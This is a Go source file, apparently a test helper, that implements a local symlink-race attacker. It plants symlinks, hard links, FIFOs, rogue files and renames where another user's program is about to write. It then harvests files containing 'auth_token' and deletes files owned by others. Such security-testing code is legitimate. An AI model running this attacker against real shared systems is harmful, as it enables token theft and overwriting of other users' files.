//go:build linux

package cotenant

import (
	"errors"
	"fmt"
	"io/fs"
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// swapperReport is what a swapper has to tell.
type swapperReport struct {
	Plants int      // how often it put something in the file's place
	Moved  int      // how often it took away what it had not made
	Leaks  []string // where it saw a token
}

// swapperBusy is what a swapper says once it has planted often enough.
const swapperBusy = "busy planting"

// swapper puts things in the place of files that somebody else is about to
// write, and takes them away again, as fast as it can.
type swapper struct {
	victim string   // another user's file, to which links lead
	loot   string   // its own file, to which links lead
	kept   *os.File // the last file of its own that it planted, still open
	swapperReport
}

// swap takes a victim's path, the kinds of plants ("all" or a list with commas)
// and the paths to attack.
func swap(args []string) error {
	s := &swapper{victim: args[0], loot: filepath.Join(must(os.Getwd()), "loot")}
	kinds := plants
	if args[1] != "all" {
		kinds = map[string]func(*swapper, string) error{}
		for kind := range strings.SplitSeq(args[1], ",") {
			kinds[kind] = plants[kind]
		}
	}
	if err := os.WriteFile(s.loot, nil, 0o666); err != nil {
		return err
	}
	if err := os.Chmod(s.loot, 0o666); err != nil {
		return err
	}
	if err := os.Chmod(".", 0o755); err != nil { // whoever follows a link must get here
		return err
	}
	for end := untilEnd(); !ended(end); {
		for _, plant := range kinds { // in random order
			for _, path := range args[2:] {
				if plant(s, path) == nil {
					if s.Plants++; s.Plants == 200 {
						fmt.Fprintln(os.Stderr, swapperBusy)
					}
				}
				s.look(path)
				s.take(path)
				// Whoever is attacked must get through now and then, so that the
				// race is one: in every moment, there may or may not be a plant.
				time.Sleep(rand.N(500 * time.Microsecond))
			}
		}
	}
	return report(s.swapperReport)
}

// plants are the things that a swapper puts in place of a file.
var plants = map[string]func(s *swapper, path string) error{
	"link to the victim": func(s *swapper, path string) error { return os.Symlink(s.victim, path) },
	"link to its loot":   func(s *swapper, path string) error { return os.Symlink(s.loot, path) },
	"link to nothing":    func(s *swapper, path string) error { return os.Symlink(s.loot+".new", path) },
	"hard link":          func(s *swapper, path string) error { return os.Link(s.loot, path) },
	"hard link to the victim": func(s *swapper, path string) error {
		return os.Link(s.victim, path)
	},
	"file that all can read":  func(s *swapper, path string) error { return s.file(path, 0o666) },
	"file of its own":         func(s *swapper, path string) error { return s.file(path, 0o600) },
	"directory":               func(_ *swapper, path string) error { return os.Mkdir(path, 0o777) },
	"FIFO":                    func(_ *swapper, path string) error { return unix.Mkfifo(path, 0o666) },
	"link for a directory":    func(s *swapper, path string) error { return os.Symlink(filepath.Dir(s.victim), filepath.Dir(path)) },
	"directory for its own":   func(_ *swapper, path string) error { return os.Mkdir(filepath.Dir(path), 0o777) },
	"rename over the file":    func(s *swapper, path string) error { return s.rename(path, path) },
	"rename of its directory": func(s *swapper, path string) error { return s.rename(filepath.Dir(path), filepath.Dir(path)+".old") },
}

func (s *swapper) file(path string, mode uint32) error {
	file, err := os.OpenFile(path, os.O_RDWR|os.O_CREATE|os.O_EXCL, fs.FileMode(mode))
	if err != nil {
		return err
	}
	if s.kept != nil {
		s.read("a file that it planted", s.kept)
		_ = s.kept.Close()
	}
	s.kept = file
	return file.Chmod(fs.FileMode(mode))
}

func (s *swapper) rename(old, new string) error {
	if old == new {
		old = filepath.Join(filepath.Dir(new), ".swapper")
		if err := os.WriteFile(old, nil, 0o666); err != nil {
			return err
		}
	}
	err := os.Rename(old, new)
	_ = os.Remove(old)
	return err
}

// look tries to read the token wherever it could be.
func (s *swapper) look(path string) {
	entries, _ := os.ReadDir(filepath.Dir(path))
	for _, entry := range entries {
		name := filepath.Join(filepath.Dir(path), entry.Name())
		if file, err := os.OpenFile(name, os.O_RDONLY|unix.O_NONBLOCK, 0); err == nil {
			s.read(name, file)
			_ = file.Close()
		}
	}
	for _, name := range []string{s.loot, s.loot + ".new"} {
		if file, err := os.Open(name); err == nil {
			s.read("what its link led to", file)
			_ = file.Close()
		}
	}
}

func (s *swapper) read(where string, file *os.File) {
	var content [4096]byte
	n, _ := file.ReadAt(content[:], 0)
	if strings.Contains(string(content[:n]), "auth_token") && !slices.Contains(s.Leaks, where) {
		s.Leaks = append(s.Leaks, where)
	}
}

// take removes what is at the path.
func (s *swapper) take(path string) {
	info, err := os.Lstat(path)
	if err != nil {
		_ = os.Remove(filepath.Dir(path)) // (if it is empty, or a link)
		return
	}
	err = os.Remove(path)
	if err == nil && info.Sys().(*syscall.Stat_t).Uid != uint32(os.Getuid()) && !errors.Is(err, fs.ErrNotExist) {
		s.Moved++
	}
}

func must[T any](value T, err error) T {
	if err != nil {
		panic(err)
	}
	return value
}
